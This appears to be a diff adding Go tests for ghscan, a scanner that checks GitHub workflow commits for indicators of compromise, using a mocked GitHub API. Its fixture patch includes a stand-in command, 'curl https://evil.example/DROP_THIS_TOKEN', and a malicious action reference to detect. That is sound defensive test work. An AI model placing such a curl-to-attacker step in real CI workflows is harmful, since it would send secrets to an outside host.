@@ -0,0 +1,128 @@
+package workflow_test
+
+import (
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"testing"
+	"time"
+
+	"github.com/chainguard-dev/ghscan/pkg/ioc"
+	"github.com/chainguard-dev/ghscan/pkg/workflow"
+	"github.com/google/go-github/v86/github"
+)
+
+// TestFindWorkflowChanges asserts only added lines in workflow files
+// are considered, content matches are attributed to the IOC name, and
+// uses: matches are attributed to the corpus action.
+func TestFindWorkflowChanges(t *testing.T) {
+	t.Parallel()
+
+	patch := "@@ -1,3 +1,5 @@\n" +
+		" steps:\n" +
+		"-  - run: echo DROP_THIS_TOKEN\n" +
+		"+  - run: curl https://evil.example/DROP_THIS_TOKEN\n" +
+		"+  - uses: evil/action@v1\n" +
+		"+  - uses: actions/checkout@v4\n"
+
+	mux := http.NewServeMux()
+	mux.HandleFunc("/repos/o/r/commits", func(w http.ResponseWriter, r *http.Request) {
+		if got := r.URL.Query().Get("path"); got != ".github/workflows" {
+			t.Errorf("path=%q, want .github/workflows", got)
+		}
+		_ = json.NewEncoder(w).Encode([]*github.RepositoryCommit{{SHA: new("abc123")}})
+	})
+	mux.HandleFunc("/repos/o/r/commits/abc123", func(w http.ResponseWriter, _ *http.Request) {
+		_ = json.NewEncoder(w).Encode(github.RepositoryCommit{
+			SHA:    new("abc123"),
+			Author: &github.User{Login: new("mallory")},
+			Commit: &github.Commit{Author: &github.CommitAuthor{
+				Name: new("Mallory"),
+				Date: &github.Timestamp{Time: time.Date(2025, 3, 14, 0, 0, 0, 0, time.UTC)},
+			}},
+			Files: []*github.CommitFile{
+				{Filename: new(".github/workflows/ci.yml"), Status: new("modified"), Patch: new(patch)},
+				{Filename: new("README.md"), Status: new("modified"), Patch: new("+DROP_THIS_TOKEN\n")},
+				{Filename: new(".github/workflows/old.yml"), Status: new("removed"), Patch: new("+DROP_THIS_TOKEN\n")},
+			},
+		})
+	})
+	ts := httptest.NewServer(mux)
+	t.Cleanup(ts.Close)
+	gh, _ := newTestClients(t, ts)
+
+	commits, err := workflow.ListWorkflowCommits(t.Context(), gh, "o", "r", time.Time{}, time.Now())
+	if err != nil {
+		t.Fatalf("ListWorkflowCommits: %v", err)
+	}
+	if len(commits) != 1 {
+		t.Fatalf("commits=%d, want 1", len(commits))
+	}
+
+	custom, err := ioc.NewIOC(&ioc.Config{Name: "test-only", Content: []string{"DROP_THIS_TOKEN"}})
+	if err != nil {
+		t.Fatalf("build IOC: %v", err)
+	}
+	corpus := &ioc.Corpus{Version: 1, IOCs: []ioc.CorpusEntry{{Action: "evil/action", Refs: []string{"v1"}}}}
+
+	changes, err := workflow.FindWorkflowChanges(t.Context(), gh, "o", "r", commits[0].GetSHA(), custom, corpus)
+	if err != nil {
+		t.Fatalf("FindWorkflowChanges: %v", err)
+	}
+	want := []workflow.WorkflowChange{
+		{IOCName: "test-only", Line: "- run: curl https://evil.example/DROP_THIS_TOKEN"},
+		{IOCName: "evil/action", Line: "- uses: evil/action@v1"},
+	}
+	if len(changes) != len(want) {
+		t.Fatalf("changes=%+v, want %d entries", changes, len(want))
+	}
+	for i, ch := range changes {
+		if ch.IOCName != want[i].IOCName || ch.Line != want[i].Line {
+			t.Fatalf("changes[%d]=%+v, want %+v", i, ch, want[i])
+		}
+		if ch.SHA != "abc123" || ch.Author != "mallory" || ch.Path != ".github/workflows/ci.yml" {
+			t.Fatalf("changes[%d] attribution=%+v", i, ch)
+		}
+	}
+}
+
+// TestWorkflowModified asserts the commit listing is scoped to the
+// workflow file and window, and one commit is enough to report it
+// modified.
+func TestWorkflowModified(t *testing.T) {
+	t.Parallel()
+
+	since := time.Date(2025, 3, 1, 0, 0, 0, 0, time.UTC)
+	until := since.Add(14 * 24 * time.Hour)
+	mux := http.NewServeMux()
+	mux.HandleFunc("/repos/o/r/commits", func(w http.ResponseWriter, r *http.Request) {
+		q := r.URL.Query()
+		if got := q.Get("since"); got != since.Format(time.RFC3339) {
+			t.Errorf("since=%q, want %s", got, since.Format(time.RFC3339))
+		}
+		if got := q.Get("until"); got != until.Format(time.RFC3339) {
+			t.Errorf("until=%q, want %s", got, until.Format(time.RFC3339))
+		}
+		var commits []*github.RepositoryCommit
+		if q.Get("path") == ".github/workflows/release.yml" {
+			commits = append(commits, &github.RepositoryCommit{SHA: new("abc123")})
+		}
+		_ = json.NewEncoder(w).Encode(commits)
+	})
+	ts := httptest.NewServer(mux)
+	t.Cleanup(ts.Close)
+	gh, _ := newTestClients(t, ts)
+
+	for path, want := range map[string]bool{
+		".github/workflows/release.yml": true,
+		".github/workflows/ci.yml":      false,
+	} {
+		got, err := workflow.WorkflowModified(t.Context(), gh, "o", "r", path, since, until)
+		if err != nil {
+			t.Fatalf("WorkflowModified(%s): %v", path, err)
+		}
+		if got != want {
+			t.Errorf("WorkflowModified(%s)=%v, want %v", path, got, want)
+		}
+	}
+}